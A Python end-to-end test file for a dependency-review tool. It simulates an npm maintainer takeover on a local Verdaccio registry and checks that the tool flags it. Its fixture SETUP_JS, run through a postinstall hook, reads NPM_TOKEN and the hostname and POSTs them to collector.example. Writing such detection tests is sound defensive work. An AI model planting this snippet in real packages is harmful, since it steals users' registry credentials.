"""End to end against Verdaccio: a maintainer takeover that adds a malicious postinstall.

pkg@1.0.0 is published by alice; pkg@1.1.0 by mallory, who adds herself as a maintainer
and a postinstall that runs a file with a network call and an env read. `reviewer report
--format json` must show install-script, suspicious-code (with line numbers),
new-publisher and maintainers-changed for pkg@1.1.0, and none of those for calm@1.0.1,
published twice by alice with no scripts.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from reviewer.cli.main import main

SETUP_JS = """\
const https = require('https')
const os = require('os')
const data = JSON.stringify({ host: os.hostname(), token: process.env.NPM_TOKEN })
const req = https.request({ host: 'collector.example', method: 'POST', path: '/c' })
req.end(data)
"""

pytestmark = pytest.mark.verdaccio


def _lock_entry(server, published) -> dict[str, str]:  # noqa: ANN001
    return {"version": published.version, "resolved": server.tarball_url(published.name, published.version),
            "integrity": published.integrity}


@pytest.fixture(scope="module")
def takeover_project(verdaccio, tmp_path_factory) -> Path:  # noqa: ANN001
    verdaccio.publish("pkg", "1.0.0", {"index.js": "module.exports = 1\n"}, user="alice",
                      npm_user="alice", maintainers=["alice"])
    new = verdaccio.publish("pkg", "1.1.0", {"index.js": "module.exports = 2\n", "setup.js": SETUP_JS},
                            user="mallory", npm_user="mallory", maintainers=["alice", "mallory"],
                            extra={"scripts": {"postinstall": "node setup.js"}})
    verdaccio.publish("calm", "1.0.0", {"index.js": "module.exports = 'a'\n"}, user="alice",
                      npm_user="alice", maintainers=["alice"])
    calm = verdaccio.publish("calm", "1.0.1", {"index.js": "module.exports = 'b'\n"}, user="alice",
                             npm_user="alice", maintainers=["alice"])
    project = tmp_path_factory.mktemp("takeover")
    deps = {"pkg": "^1.1.0", "calm": "^1.0.1"}
    (project / "package.json").write_text(json.dumps({"name": "app", "version": "1.0.0", "dependencies": deps}))
    lock = {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": True, "packages": {
        "": {"name": "app", "version": "1.0.0", "dependencies": deps},
        "node_modules/pkg": {**_lock_entry(verdaccio, new), "hasInstallScript": True},
        "node_modules/calm": _lock_entry(verdaccio, calm),
    }}
    (project / "package-lock.json").write_text(json.dumps(lock))
    return project


def _report(project: Path, registry: str, cache: Path, capsys, *extra: str) -> tuple[int, dict]:  # noqa: ANN001
    code = main(["report", str(project), "--format", "json", "--registry", registry,
                 "--cache-dir", str(cache), *extra])
    captured = capsys.readouterr()
    assert captured.out, captured.err
    return code, json.loads(captured.out)


def test_report_shows_the_takeover(takeover_project, verdaccio, tmp_path, capsys) -> None:  # noqa: ANN001
    code, report = _report(takeover_project, verdaccio.url, tmp_path / "cache", capsys)
    assert code == 0
    packages = {f"{p['name']}@{p['version']}": p for p in report["packages"]}
    pkg = {s["id"]: s for s in packages["pkg@1.1.0"]["signals"] if not s["unknown"]}
    assert {"install-script", "suspicious-code", "new-publisher", "maintainers-changed"} <= set(pkg)
    assert pkg["install-script"]["summary"] == "postinstall: node setup.js"
    lines = {(e.get("file"), e.get("line")) for e in pkg["suspicious-code"]["evidence"]}
    assert ("setup.js", 1) in lines and ("setup.js", 3) in lines  # require('https'), NPM_TOKEN
    assert pkg["suspicious-code"]["severity"] == "critical"
    assert pkg["new-publisher"]["details"]["publisher"] == "mallory"
    assert pkg["maintainers-changed"]["details"]["added"] == ["mallory"]
    calm = {s["id"] for s in packages["calm@1.0.1"]["signals"]}
    assert not calm & {"install-script", "suspicious-code", "new-publisher", "maintainers-changed"}


def test_fail_on_and_text_format(takeover_project, verdaccio, tmp_path, capsys) -> None:  # noqa: ANN001
    cache = tmp_path / "cache"
    code, _ = _report(takeover_project, verdaccio.url, cache, capsys, "--fail-on", "high")
    assert code == 1
    code = main(["report", str(takeover_project), "--registry", verdaccio.url, "--cache-dir", str(cache)])
    text = capsys.readouterr().out
    assert code == 0 and "CRITICAL" in text and "pkg@1.1.0  suspicious-code" in text
    assert [line for line in text.splitlines() if len(line) > 80] == []
    assert main(["report", str(takeover_project), "--fail-on", "bogus", "--registry", verdaccio.url,
                 "--cache-dir", str(cache)]) == 2
